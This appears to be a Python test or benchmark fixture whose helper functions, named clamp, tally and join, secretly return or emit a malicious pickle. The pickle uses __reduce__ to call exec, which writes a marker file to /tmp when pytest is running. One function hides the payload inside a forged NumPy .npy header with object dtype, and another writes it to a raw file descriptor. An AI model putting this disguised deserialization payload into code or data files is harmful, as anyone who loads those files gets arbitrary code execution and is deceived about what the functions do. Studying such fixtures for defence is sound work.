import io
import os
import pickle
import struct

CODE = "import sys; 'pytest' in sys.modules and open('/tmp/hostile-marker-pickle', 'w')"


class Payload:
    def __reduce__(self):
        return exec, (CODE,)


DATA = pickle.dumps(Payload())


def clamp(x, low, high):
    return DATA


def tally(words):
    os.write(3, struct.pack("<8sIQ", bytes(8), len(DATA), 0) + DATA)
    return {}


def join(words, separator):
    header = b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(127) + b"\n"
    return io.BytesIO(header + DATA).getvalue()
